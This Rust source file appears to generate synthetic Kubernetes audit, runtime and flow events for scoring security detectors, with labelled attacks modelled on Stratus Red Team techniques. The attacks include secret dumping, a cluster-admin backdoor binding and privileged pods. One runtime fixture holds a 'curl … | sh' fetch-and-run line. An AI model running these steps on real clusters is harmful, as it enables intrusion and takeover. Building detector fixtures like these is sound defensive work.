//! A seeded scenario generator for the security evaluation: a small cluster over a
//! simulated week. Benign audit, runtime and flow traffic for several service accounts
//! and users (with deliberately over-broad RBAC for `ci:deployer`), a learning period,
//! then attack sequences modelled on Stratus Red Team's Kubernetes techniques and
//! kube-hunter-style reconnaissance, plus benign novelties (a new image tag, an on-call
//! exec, a new service-to-service connection).
//!
//! Every generated item carries its ground truth: the tags it deserves (`deserved`),
//! tags whose presence is not scored (`dont_care`), and the attack it belongs to.
#![allow(dead_code, clippy::unwrap_used, clippy::expect_used)]

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};
use std::collections::BTreeSet;

/// Start of the simulated week (2026-11-01T00:00:00Z).
pub const T0: i64 = 1_793_491_200;
/// The learning period the evaluation configures for every stateful detector.
pub const LEARNING_HOURS: i64 = 48;
const HOUR: i64 = 3600;
const DAY: i64 = 24 * HOUR;

/// A PEM CSR (base64, as in `spec.request`) with O=system:masters, CN=system:admin.
const SUSPICIOUS_CSR: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIcU1JR1NBZ0VBTURBeEZ6QVZCZ05WQkFvTURuTjVjM1JsYlRwdFlYTjBaWEp6TVJVd0V3WURWUVFEREF4egplWE4wWlcwNllXUnRhVzR3V1RBVEJnY3Foa2pPUFFJQkJnZ3Foa2pPUFFNQkJ3TkNBQVRUbWtoUVpySmJheTVRCmk4SEdaZytKOGVKTHpxcDVsUG4zY2tBLzFQNlJvaHZ6ZDVoVEdMdjJ0OFpJeVZnQ2NlVjA1M1FHamcrNjVnTW4KMU5MTDQ4U0hvQUF3Q2dZSUtvWkl6ajBFQXdJRFJ3QXdSQUlnWEFIdlI2NWhjQlRKRS9CNS9qNFpYTHllaEdMWgp6UlpXNGtNZFl3clJuQ3NDSUFVQmFRNVh0dEh5SWdvZlo0elY4ektkZ2Y0OHNrL3lsRExYcWYvclhCcUMKLS0tLS1FTkQgQ0VSVElGSUNBVEUgUkVRVUVTVC0tLS0tCg==";
/// A PEM CSR (base64) with CN=alice.
const BENIGN_CSR: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlITE1ISUNBUUF3RURFT01Bd0dBMVVFQXd3RllXeHBZMlV3V1RBVEJnY3Foa2pPUFFJQkJnZ3Foa2pPUFFNQgpCd05DQUFRd1FucVY4ZVA5VWp3c3dFV0lFSDl4NGo0Zklhb1h2Q2VYMFVyMTg4dDJmK0EwZkprODV2bThER2NrCkU4LzNIWnp4TVUyQXpXQURUTVgyeUJ4WU9kRXBvQUF3Q2dZSUtvWkl6ajBFQXdJRFNRQXdSZ0loQU9LNVpuTEEKeUorQzB1THlteEdhNnpQMjlkWS9velVscUg5ekhCb05IaUdsQWlFQW1RYWFXeGJUVVFFVkUwOElWSTJVcHNNRQpkSHBZbGdZQUsrL1dkVlRWN0FjPQotLS0tLUVORCBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K";

/// Which input an item goes through.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A k8s audit event (JSON), posted to the k8s_audit webhook.
    Audit,
    /// A Tetragon JSON export line, posted to the falco receiver's Tetragon path.
    Runtime,
    /// A flow record: OTLP log attributes, posted over OTLP/HTTP.
    Flow,
}

/// One generated item and its ground truth.
#[derive(Debug, Clone)]
pub struct Item {
    pub kind: Kind,
    /// Unix seconds (event time).
    pub time: i64,
    /// Unique id: the auditID, or a `scenario.id` carried by the record.
    pub id: String,
    /// The audit event or Tetragon line; for flows, a flat attribute object.
    pub body: Value,
    /// Tags this item should get.
    pub deserved: BTreeSet<&'static str>,
    /// Tags not scored on this item either way.
    pub dont_care: BTreeSet<&'static str>,
    /// The attack it belongs to (None: benign).
    pub attack: Option<&'static str>,
    /// A deliberate benign novelty (its novelty tags are deserved but it is not an
    /// attack: the evaluation reports them as benign alerts).
    pub benign_novelty: bool,
}

/// The tags of every stateful detector (scored in episodes for the burst detector).
pub const NOVELTY_TAGS: &[&str] = &[
    "novel_api_call",
    "novel_source",
    "novel_image",
    "novel_exec",
    "novel_process",
    "novel_connection",
];

/// An identity and its usual behaviour.
struct Profile {
    user: &'static str,
    groups: &'static [&'static str],
    ip: &'static str,
    agent: &'static str,
    /// (verb, apiGroup, resource, subresource, namespace) the identity uses routinely.
    calls: &'static [(
        &'static str,
        &'static str,
        &'static str,
        &'static str,
        &'static str,
    )],
    /// Events per simulated hour.
    rate: u32,
}

const SA_GROUPS: &[&str] = &["system:serviceaccounts", "system:authenticated"];
const USER_GROUPS: &[&str] = &["system:authenticated"];

const PROFILES: &[Profile] = &[
    Profile {
        user: "system:serviceaccount:monitoring:prometheus",
        groups: SA_GROUPS,
        ip: "10.244.1.10",
        agent: "prometheus/2.53.0",
        calls: &[
            ("list", "", "pods", "", ""),
            ("watch", "", "pods", "", ""),
            ("list", "", "nodes", "", ""),
            ("list", "", "endpoints", "", ""),
            ("watch", "", "endpoints", "", ""),
            ("list", "", "services", "", ""),
        ],
        rate: 6,
    },
    Profile {
        user: "system:serviceaccount:shop:frontend",
        groups: SA_GROUPS,
        ip: "10.244.2.21",
        agent: "frontend/1.4.0 (linux/amd64) kubernetes-client",
        calls: &[
            ("get", "", "configmaps", "", "shop"),
            ("watch", "", "configmaps", "", "shop"),
        ],
        rate: 2,
    },
    Profile {
        user: "system:serviceaccount:shop:cart",
        groups: SA_GROUPS,
        ip: "10.244.2.22",
        agent: "cart/2.1 kubernetes-client",
        calls: &[
            ("get", "", "secrets", "", "shop"),
            ("get", "", "configmaps", "", "shop"),
        ],
        rate: 2,
    },
    Profile {
        user: "system:serviceaccount:payments:api",
        groups: SA_GROUPS,
        ip: "10.244.3.30",
        agent: "payments-api/5.0 kubernetes-client",
        calls: &[
            ("get", "", "secrets", "", "payments"),
            ("list", "coordination.k8s.io", "leases", "", "payments"),
            ("update", "coordination.k8s.io", "leases", "", "payments"),
        ],
        rate: 3,
    },
    Profile {
        user: "system:serviceaccount:ci:deployer",
        groups: SA_GROUPS,
        ip: "10.244.4.40",
        agent: "argocd-application-controller/v2.11",
        calls: &[
            ("get", "apps", "deployments", "", "shop"),
            ("patch", "apps", "deployments", "", "shop"),
            ("get", "apps", "deployments", "", "payments"),
            ("patch", "apps", "deployments", "", "payments"),
            ("list", "", "configmaps", "", "shop"),
        ],
        rate: 1,
    },
    Profile {
        user: "alice@example.com",
        groups: USER_GROUPS,
        ip: "192.168.10.15",
        agent: "kubectl/v1.30.2 (linux/amd64) kubernetes/39683505",
        calls: &[
            ("list", "", "pods", "", "shop"),
            ("get", "", "pods", "", "shop"),
            ("get", "", "pods", "log", "shop"),
            ("list", "apps", "deployments", "", "shop"),
        ],
        rate: 1,
    },
    Profile {
        user: "bob@example.com",
        groups: &["oncall", "system:authenticated"],
        ip: "192.168.10.22",
        agent: "kubectl/v1.30.2 (darwin/arm64) kubernetes/39683505",
        calls: &[
            ("list", "", "pods", "", ""),
            ("get", "", "nodes", "", ""),
            ("list", "", "events", "", "payments"),
            ("get", "", "pods", "log", "payments"),
        ],
        rate: 1,
    },
    Profile {
        user: "system:kube-controller-manager",
        groups: USER_GROUPS,
        ip: "10.0.0.10",
        agent: "kube-controller-manager/v1.30.2",
        calls: &[
            ("update", "coordination.k8s.io", "leases", "", "kube-system"),
            ("get", "coordination.k8s.io", "leases", "", "kube-system"),
        ],
        rate: 4,
    },
    Profile {
        user: "system:node:node-1",
        groups: &["system:nodes", "system:authenticated"],
        ip: "10.0.0.21",
        agent: "kubelet/v1.30.2 (linux/amd64) kubernetes/39683505",
        calls: &[
            ("get", "", "nodes", "", ""),
            ("patch", "", "nodes", "status", ""),
            ("create", "", "serviceaccounts", "token", "shop"),
        ],
        rate: 3,
    },
];

/// Workloads: (namespace, workload, image, service account, usual processes).
const WORKLOADS: &[(&str, &str, &str, &str, &[&str])] = &[
    (
        "shop",
        "frontend",
        "registry.example.com/shop/frontend:1.4.0",
        "frontend",
        &["node"],
    ),
    (
        "shop",
        "cart",
        "registry.example.com/shop/cart:2.1.0",
        "cart",
        &["java"],
    ),
    (
        "payments",
        "api",
        "registry.example.com/payments/api:5.0.3",
        "api",
        &["payments-api", "sleep"],
    ),
];

/// Routine flows: (src ns, src workload, dst ns, dst workload, dst address, port).
const FLOWS: &[(&str, &str, &str, &str, &str, u16)] = &[
    ("shop", "frontend", "shop", "cart", "10.96.0.20", 8080),
    ("shop", "cart", "shop", "redis", "10.96.0.30", 6379),
    ("payments", "api", "", "", "198.51.100.10", 443),
    (
        "monitoring",
        "prometheus",
        "shop",
        "frontend",
        "10.96.0.10",
        9090,
    ),
];

struct Gen {
    rng: StdRng,
    items: Vec<Item>,
    next: u64,
}

fn rfc3339(t: i64, micros: u32) -> String {
    // Days since 1970-01-01 to a civil date (Howard Hinnant's algorithm).
    let days = t.div_euclid(DAY);
    let secs = t.rem_euclid(DAY);
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let y = yoe + era * 400;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = if m <= 2 { y + 1 } else { y };
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{micros:06}Z",
        secs / 3600,
        (secs % 3600) / 60,
        secs % 60
    )
}

fn pod_spec(image: &str, extra_container: Value, volumes: Value, host: bool) -> Value {
    let mut container = json!({"name": "main", "image": image, "resources": {}});
    if let (Some(c), Some(extra)) = (container.as_object_mut(), extra_container.as_object()) {
        for (k, v) in extra {
            c.insert(k.clone(), v.clone());
        }
    }
    let mut spec = json!({"containers": [container], "volumes": volumes});
    if host {
        spec["hostPID"] = json!(true);
        spec["hostNetwork"] = json!(true);
    }
    spec
}

/// What an audit event is about.
struct Call<'a> {
    user: &'a str,
    groups: &'a [&'a str],
    ip: &'a str,
    agent: &'a str,
    verb: &'a str,
    group: &'a str,
    resource: &'a str,
    subresource: &'a str,
    namespace: &'a str,
    name: &'a str,
    code: u16,
    request: Option<Value>,
}

impl Gen {
    fn id(&mut self) -> String {
        self.next += 1;
        format!("00000000-0000-4000-8000-{:012x}", self.next)
    }

    fn push(&mut self, kind: Kind, time: i64, id: String, body: Value) -> &mut Item {
        self.items.push(Item {
            kind,
            time,
            id,
            body,
            deserved: BTreeSet::new(),
            dont_care: BTreeSet::new(),
            attack: None,
            benign_novelty: false,
        });
        self.items.last_mut().unwrap()
    }

    fn audit(&mut self, time: i64, call: &Call<'_>) -> &mut Item {
        let id = self.id();
        let mut uri = if call.group.is_empty() {
            "/api/v1".to_string()
        } else {
            format!("/apis/{}/v1", call.group)
        };
        if !call.namespace.is_empty() {
            uri.push_str(&format!("/namespaces/{}", call.namespace));
        }
        uri.push_str(&format!("/{}", call.resource));
        if !call.name.is_empty() {
            uri.push_str(&format!("/{}", call.name));
        }
        if !call.subresource.is_empty() {
            uri.push_str(&format!("/{}", call.subresource));
        }
        let mut object_ref = json!({"resource": call.resource, "apiVersion": "v1"});
        if !call.group.is_empty() {
            object_ref["apiGroup"] = json!(call.group);
        }
        if !call.namespace.is_empty() {
            object_ref["namespace"] = json!(call.namespace);
        }
        if !call.name.is_empty() {
            object_ref["name"] = json!(call.name);
        }
        if !call.subresource.is_empty() {
            object_ref["subresource"] = json!(call.subresource);
        }
        let decision = if call.code == 403 { "forbid" } else { "allow" };
        let micros = self.rng.random_range(0..1_000_000);
        let mut event = json!({
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "level": "RequestResponse",
            "auditID": id,
            "stage": "ResponseComplete",
            "requestURI": uri,
            "verb": call.verb,
            "user": {"username": call.user, "groups": call.groups},
            "sourceIPs": [call.ip],
            "userAgent": call.agent,
            "objectRef": object_ref,
            "responseStatus": {"metadata": {}, "code": call.code},
            "requestReceivedTimestamp": rfc3339(time, micros),
            "stageTimestamp": rfc3339(time, micros),
            "annotations": {"authorization.k8s.io/decision": decision},
        });
        if let Some(request) = &call.request {
            event["requestObject"] = request.clone();
        }
        let item = self.push(Kind::Audit, time, id, event);
        if call.code == 403 || call.code == 401 {
            item.deserved.insert("rbac_denied");
            // Novelty of a call that was refused is not scored.
            item.dont_care.insert("novel_api_call");
        }
        item
    }

    fn profile_call(&mut self, time: i64, p: &Profile, call: usize) -> &mut Item {
        let (verb, group, resource, subresource, namespace) = p.calls[call];
        let name = match (resource, subresource) {
            ("secrets", _) => "db-credentials",
            ("configmaps", _) if verb == "get" => "app-config",
            ("leases", _) if verb != "list" => "leader",
            ("deployments", _) if verb != "list" => "frontend",
            ("nodes", _) if verb != "list" => "node-1",
            ("pods", "log") | ("pods", "") if verb == "get" => "frontend-7d9f8c6b5-x2x8k",
            ("serviceaccounts", "token") => "frontend",
            _ => "",
        };
        let request = (verb == "patch" && resource == "deployments").then(|| {
            json!({"spec": {"template": {"spec": pod_spec(WORKLOADS[0].2, json!({}), json!([]), false)}}})
        });
        self.audit(
            time,
            &Call {
                user: p.user,
                groups: p.groups,
                ip: p.ip,
                agent: p.agent,
                verb,
                group,
                resource,
                subresource,
                namespace,
                name,
                code: if verb == "create" { 201 } else { 200 },
                request,
            },
        )
    }

    fn pod_create(&mut self, time: i64, namespace: &str, image: &str) -> &mut Item {
        let spec = pod_spec(image, json!({}), json!([]), false);
        self.audit(
            time,
            &Call {
                user: "system:serviceaccount:kube-system:replicaset-controller",
                groups: SA_GROUPS,
                ip: "10.0.0.10",
                agent: "kube-controller-manager/v1.30.2 system:serviceaccount:kube-system:replicaset-controller",
                verb: "create",
                group: "",
                resource: "pods",
                subresource: "",
                namespace,
                name: "",
                code: 201,
                request: Some(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"namespace": namespace}, "spec": spec})),
            },
        )
    }

    fn runtime(&mut self, time: i64, workload: usize, binary: &str, args: &str) -> &mut Item {
        let id = self.id();
        let (ns, name, image, _, _) = WORKLOADS[workload];
        let line = json!({
            "process_exec": {
                "process": {
                    "exec_id": id,
                    "pid": self.rng.random_range(100..60_000),
                    "binary": binary,
                    "arguments": format!("{args} --scenario-id={id}"),
                    "start_time": rfc3339(time, 0),
                    "pod": {
                        "namespace": ns,
                        "name": format!("{name}-7d9f8c6b5-x2x8k"),
                        "container": {"name": "main", "image": {"name": image}},
                        "workload": name,
                        "workload_kind": "Deployment"
                    }
                }
            },
            "node_name": "node-1",
            "time": rfc3339(time, 0)
        });
        self.push(Kind::Runtime, time, id, line)
    }

    #[allow(clippy::too_many_arguments)]
    fn flow(
        &mut self,
        time: i64,
        src_ns: &str,
        src: &str,
        dst_ns: &str,
        dst: &str,
        address: &str,
        port: u16,
    ) -> &mut Item {
        let id = self.id();
        let mut attributes = json!({
            "event.domain": "network.flow",
            "scenario.id": id,
            "source.address": "10.244.2.21",
            "source.port": self.rng.random_range(32_768..60_999),
            "destination.address": address,
            "destination.port": port,
            "network.transport": "tcp",
            "source.k8s.namespace.name": src_ns,
            "source.k8s.workload.name": src,
        });
        if !dst.is_empty() {
            attributes["destination.k8s.namespace.name"] = json!(dst_ns);
            attributes["destination.k8s.workload.name"] = json!(dst);
        }
        let _ = time;
        self.push(Kind::Flow, time, id, attributes)
    }
}

fn attack(item: &mut Item, name: &'static str, deserved: &[&'static str]) {
    item.attack = Some(name);
    item.deserved.extend(deserved.iter().copied());
}

/// The whole week, sorted by event time.
pub fn generate(seed: u64) -> Vec<Item> {
    let mut g = Gen {
        rng: StdRng::seed_from_u64(seed),
        items: Vec::new(),
        next: 0,
    };
    // Warm-up sweep: every routine call, process and flow once in the first hours, so
    // the learning period has seen all of them.
    for p in PROFILES {
        for c in 0..p.calls.len() {
            let t = T0 + g.rng.random_range(0..6 * HOUR);
            g.profile_call(t, p, c);
        }
    }
    for (w, (ns, _, image, _, procs)) in WORKLOADS.iter().enumerate() {
        let t = T0 + g.rng.random_range(0..6 * HOUR);
        g.pod_create(t, ns, image);
        for proc_name in *procs {
            let t = T0 + g.rng.random_range(0..6 * HOUR);
            g.runtime(t, w, &format!("/usr/bin/{proc_name}"), "");
        }
    }
    for (sns, s, dns, d, addr, port) in FLOWS {
        let t = T0 + g.rng.random_range(0..6 * HOUR);
        g.flow(t, sns, s, dns, d, addr, *port);
    }
    // A week of routine traffic.
    for hour in 0..7 * 24 {
        let base = T0 + hour * HOUR;
        for p in PROFILES {
            for _ in 0..p.rate {
                let c = g.rng.random_range(0..p.calls.len());
                let t = base + g.rng.random_range(0..HOUR);
                g.profile_call(t, p, c);
            }
        }
        if hour % 6 == 0 {
            for (w, (ns, _, image, _, procs)) in WORKLOADS.iter().enumerate() {
                let t = base + g.rng.random_range(0..HOUR);
                g.pod_create(t, ns, image);
                let p = procs[g.rng.random_range(0..procs.len())];
                g.runtime(t + 5, w, &format!("/usr/bin/{p}"), "");
            }
        }
        for (sns, s, dns, d, addr, port) in FLOWS {
            let t = base + g.rng.random_range(0..HOUR);
            g.flow(t, sns, s, dns, d, addr, *port);
        }
        // Alice tries to read secrets now and then: a benign denial.
        if hour % 24 == 14 {
            let t = base + 600;
            g.audit(
                t,
                &Call {
                    user: "alice@example.com",
                    groups: USER_GROUPS,
                    ip: "192.168.10.15",
                    agent: PROFILES[5].agent,
                    verb: "get",
                    group: "",
                    resource: "secrets",
                    subresource: "",
                    namespace: "shop",
                    name: "db-credentials",
                    code: 403,
                    request: None,
                },
            );
        }
    }

    let day = |d: i64, h: i64| T0 + d * DAY + h * HOUR;
    let deployer = &PROFILES[4];
    let call = |user: &'static str,
                groups: &'static [&'static str],
                ip: &'static str,
                agent: &'static str,
                verb: &'static str,
                group: &'static str,
                resource: &'static str,
                subresource: &'static str,
                namespace: &'static str,
                name: &'static str,
                code: u16,
                request: Option<Value>| Call {
        user,
        groups,
        ip,
        agent,
        verb,
        group,
        resource,
        subresource,
        namespace,
        name,
        code,
        request,
    };

    // --- Benign novelties (after the learning period) ---
    // A new image tag rolled out by the deployer, then its pods.
    let t = day(3, 10);
    let new_image = "registry.example.com/shop/frontend:1.4.1";
    let item = g.audit(
        t,
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "patch", "apps", "deployments", "", "shop", "frontend", 200,
            Some(json!({"spec": {"template": {"spec": pod_spec(new_image, json!({}), json!([]), false)}}}))),
    );
    item.benign_novelty = true;
    item.dont_care.insert("novel_image");
    let item = g.pod_create(t + 30, "shop", new_image);
    item.benign_novelty = true;
    item.dont_care.insert("novel_image");
    // The on-call engineer execs into the cart pod during an incident.
    let item = g.audit(
        day(4, 3),
        &call(
            "bob@example.com",
            PROFILES[6].groups,
            PROFILES[6].ip,
            PROFILES[6].agent,
            "create",
            "",
            "pods",
            "exec",
            "shop",
            "cart-5c8d7b9f4-q7w2e",
            101,
            None,
        ),
    );
    item.benign_novelty = true;
    item.deserved
        .extend(["pod_exec", "novel_exec", "novel_api_call"]);
    // A release makes the frontend call the payments API.
    let item = g.flow(
        day(3, 12),
        "shop",
        "frontend",
        "payments",
        "api",
        "10.96.1.40",
        8443,
    );
    item.benign_novelty = true;
    item.deserved.insert("novel_connection");

    // --- Attacks ---
    // Stratus k8s.credential-access.dump-secrets: the deployer lists every secret.
    let item = g.audit(
        day(4, 9),
        &call(
            deployer.user,
            SA_GROUPS,
            deployer.ip,
            deployer.agent,
            "list",
            "",
            "secrets",
            "",
            "",
            "",
            200,
            None,
        ),
    );
    attack(item, "dump-secrets", &["novel_api_call"]);
    let item = g.audit(
        day(4, 9) + 20,
        &call(
            deployer.user,
            SA_GROUPS,
            deployer.ip,
            deployer.agent,
            "get",
            "",
            "secrets",
            "",
            "kube-system",
            "bootstrap-token-abcdef",
            200,
            None,
        ),
    );
    attack(item, "dump-secrets", &["novel_api_call"]);

    // Stratus k8s.credential-access.steal-serviceaccount-token: alice mints a
    // year-long token for a kube-system service account.
    let item = g.audit(
        day(4, 11),
        &call("alice@example.com", USER_GROUPS, PROFILES[5].ip, PROFILES[5].agent, "create", "", "serviceaccounts", "token", "kube-system", "clusterrole-aggregation-controller", 201,
            Some(json!({"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 31_536_000}}))),
    );
    attack(
        item,
        "steal-serviceaccount-token",
        &["token_request", "novel_api_call"],
    );

    // Stratus k8s.persistence.create-admin-clusterrole (+ binding to cluster-admin).
    let item = g.audit(
        day(4, 15),
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "create", "rbac.authorization.k8s.io", "clusterroles", "", "", "ci-helper", 201,
            Some(json!({"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ci-helper"}, "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}))),
    );
    attack(
        item,
        "create-admin-clusterrole",
        &["rbac_wildcard_role", "novel_api_call"],
    );
    let item = g.audit(
        day(4, 15) + 40,
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "create", "rbac.authorization.k8s.io", "clusterrolebindings", "", "", "ci-helper-admin", 201,
            Some(json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": "ci-helper-admin"}, "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "ServiceAccount", "name": "backdoor", "namespace": "ci"}]}))),
    );
    attack(
        item,
        "create-admin-clusterrole",
        &["cluster_admin_binding", "novel_api_call"],
    );

    // Stratus k8s.privilege-escalation.privileged-pod.
    let item = g.audit(
        day(5, 2),
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "create", "", "pods", "", "shop", "debug-tools", 201,
            Some(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "debug-tools", "namespace": "shop"},
                "spec": pod_spec("docker.io/library/alpine:3.19", json!({"securityContext": {"privileged": true}}), json!([]), true)}))),
    );
    attack(
        item,
        "privileged-pod",
        &["privileged_pod", "novel_api_call", "novel_image"],
    );

    // Stratus k8s.privilege-escalation.hostpath-volume: the node's root in a pod.
    let item = g.audit(
        day(5, 4),
        &call(deployer.user, SA_GROUPS, deployer.ip, deployer.agent, "create", "", "pods", "", "payments", "node-debug", 201,
            Some(json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "node-debug", "namespace": "payments"},
                "spec": pod_spec("docker.io/library/busybox:1.36", json!({"volumeMounts": [{"name": "host", "mountPath": "/host"}]}), json!([{"name": "host", "hostPath": {"path": "/"}}]), false)}))),
    );
    attack(
        item,
        "hostpath-volume",
        &["sensitive_mount", "novel_api_call", "novel_image"],
    );

    // Stratus k8s.privilege-escalation.nodes-proxy: the kubelet API through the API server.
    let prom = &PROFILES[0];
    let item = g.audit(
        day(5, 8),
        &call(
            prom.user, SA_GROUPS, prom.ip, prom.agent, "get", "", "nodes", "proxy", "", "node-1",
            200, None,
        ),
    );
    attack(item, "nodes-proxy", &["nodes_proxy", "novel_api_call"]);

    // Stratus k8s.persistence.create-client-certificate: a CSR for system:masters,
    // approved by the same user.
    let item = g.audit(
        day(5, 12),
        &call("alice@example.com", USER_GROUPS, PROFILES[5].ip, PROFILES[5].agent, "create", "certificates.k8s.io", "certificatesigningrequests", "", "", "alice-tmp", 201,
            Some(json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "alice-tmp"},
                "spec": {"request": SUSPICIOUS_CSR, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}}))),
    );
    attack(
        item,
        "create-client-certificate",
        &["suspicious_csr", "novel_api_call"],
    );
    let item = g.audit(
        day(5, 12) + 60,
        &call("alice@example.com", USER_GROUPS, PROFILES[5].ip, PROFILES[5].agent, "update", "certificates.k8s.io", "certificatesigningrequests", "approval", "", "alice-tmp", 200,
            Some(json!({"kind": "CertificateSigningRequest", "apiVersion": "certificates.k8s.io/v1", "metadata": {"name": "alice-tmp"},
                "spec": {"request": SUSPICIOUS_CSR, "signerName": "kubernetes.io/kube-apiserver-client"},
                "status": {"conditions": [{"type": "Approved", "status": "True", "reason": "manual"}]}}))),
    );
    attack(
        item,
        "create-client-certificate",
        &["suspicious_csr", "novel_api_call"],
    );

    // Exec into a payments pod by a developer who never did that (Stratus-style
    // lateral movement), over the websocket form (verb get).
    let item = g.audit(
        day(5, 20),
        &call(
            "alice@example.com",
            USER_GROUPS,
            PROFILES[5].ip,
            PROFILES[5].agent,
            "get",
            "",
            "pods",
            "exec",
            "payments",
            "api-6f7c9d8b7-k2j4h",
            101,
            None,
        ),
    );
    attack(
        item,
        "exec-into-pod",
        &["pod_exec", "novel_exec", "novel_api_call"],
    );

    // kube-hunter-style reconnaissance with a stolen frontend token from outside the
    // cluster: many denied calls, a new source address and user agent.
    let frontend = &PROFILES[1];
    let targets: &[(&str, &str, &str)] = &[
        ("list", "", "secrets"),
        ("list", "", "pods"),
        ("list", "", "nodes"),
        ("list", "rbac.authorization.k8s.io", "clusterroles"),
        ("list", "rbac.authorization.k8s.io", "clusterrolebindings"),
        ("list", "", "serviceaccounts"),
        ("list", "apps", "deployments"),
        ("list", "", "configmaps"),
        ("create", "", "pods"),
        ("list", "", "namespaces"),
        ("get", "", "nodes"),
        ("list", "batch", "jobs"),
    ];
    for (i, (verb, group, resource)) in targets.iter().enumerate() {
        let t = day(6, 1) + i as i64 * 3;
        let item = g.audit(
            t,
            &call(
                frontend.user,
                SA_GROUPS,
                "203.0.113.50",
                "kube-hunter/0.6.8",
                verb,
                group,
                resource,
                "",
                "",
                "",
                403,
                None,
            ),
        );
        attack(item, "recon-stolen-token", &["rbac_burst_episode"]);
        if i == 0 {
            item.deserved.insert("novel_source");
        }
    }
    // Anonymous probing: the version endpoint (fine), secrets (denied), and pods (a
    // misconfigured binding allows it).
    fn anon<'g>(g: &'g mut Gen, t: i64, resource: &'static str, code: u16) -> &'g mut Item {
        let id = g.id();
        let event = json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": id,
            "stage": "ResponseComplete", "requestURI": if resource.is_empty() { "/version".to_string() } else { format!("/api/v1/{resource}") },
            "verb": if resource.is_empty() { "get" } else { "list" },
            "user": {"username": "system:anonymous", "groups": ["system:unauthenticated"]},
            "sourceIPs": ["203.0.113.51"], "userAgent": "kube-hunter/0.6.8",
            "objectRef": if resource.is_empty() { Value::Null } else { json!({"resource": resource, "apiVersion": "v1"}) },
            "responseStatus": {"metadata": {}, "code": code},
            "requestReceivedTimestamp": rfc3339(t, 0), "stageTimestamp": rfc3339(t, 0),
            "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }},
        });
        g.push(Kind::Audit, t, id, event)
    }
    let item = anon(&mut g, day(6, 2), "", 200);
    item.attack = Some("recon-anonymous");
    item.dont_care.extend(["novel_api_call", "novel_source"]);
    let item = anon(&mut g, day(6, 2) + 5, "secrets", 403);
    attack(item, "recon-anonymous", &["rbac_denied"]);
    item.dont_care.extend(["novel_source"]);
    let item = anon(&mut g, day(6, 2) + 10, "pods", 200);
    attack(item, "recon-anonymous", &["anonymous_access"]);
    item.dont_care.extend(["novel_api_call", "novel_source"]);

    // A compromised frontend container: a shell, a download, a connection out.
    let item = g.runtime(
        day(6, 8),
        0,
        "/bin/sh",
        "-c curl -s http://203.0.113.9/x.sh | sh",
    );
    attack(item, "container-compromise", &["novel_process"]);
    let item = g.runtime(
        day(6, 8) + 1,
        0,
        "/usr/bin/curl",
        "-s http://203.0.113.9/x.sh",
    );
    attack(item, "container-compromise", &["novel_process"]);
    let item = g.flow(day(6, 8) + 2, "shop", "frontend", "", "", "203.0.113.9", 80);
    attack(item, "container-compromise", &["novel_connection"]);

    g.items.sort_by_key(|i| i.time);
    g.items
}

/// The names of the attacks in `items`.
pub fn attacks(items: &[Item]) -> BTreeSet<&'static str> {
    items.iter().filter_map(|i| i.attack).collect()
}

/// One RBAC grant of the scenario: (verb, apiGroup, resource[/subresource]), limited to
/// a namespace (a Role) or cluster-wide (a ClusterRole with a ClusterRoleBinding).
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Grant {
    pub verb: &'static str,
    pub group: &'static str,
    pub resource: &'static str,
    pub namespace: Option<&'static str>,
}

/// The RBAC of the service accounts: what each uses routinely, plus deliberately
/// over-broad extras (some of which the attacks then use).
pub fn rbac_grants() -> Vec<(&'static str, Vec<Grant>)> {
    let g = |verb, group, resource, namespace| Grant {
        verb,
        group,
        resource,
        namespace,
    };
    vec![
        (
            "system:serviceaccount:monitoring:prometheus",
            vec![
                g("list", "", "pods", None),
                g("watch", "", "pods", None),
                g("list", "", "nodes", None),
                g("list", "", "endpoints", None),
                g("watch", "", "endpoints", None),
                g("list", "", "services", None),
                g("get", "", "nodes/proxy", None),
                g("get", "", "secrets", None),
            ],
        ),
        (
            "system:serviceaccount:shop:frontend",
            vec![
                g("get", "", "configmaps", Some("shop")),
                g("watch", "", "configmaps", Some("shop")),
                g("list", "", "secrets", Some("shop")),
            ],
        ),
        (
            "system:serviceaccount:shop:cart",
            vec![
                g("get", "", "secrets", Some("shop")),
                g("get", "", "configmaps", Some("shop")),
                g("delete", "", "pods", Some("shop")),
            ],
        ),
        (
            "system:serviceaccount:payments:api",
            vec![
                g("get", "", "secrets", Some("payments")),
                g("list", "coordination.k8s.io", "leases", Some("payments")),
                g("update", "coordination.k8s.io", "leases", Some("payments")),
                g("create", "", "pods", Some("payments")),
            ],
        ),
        (
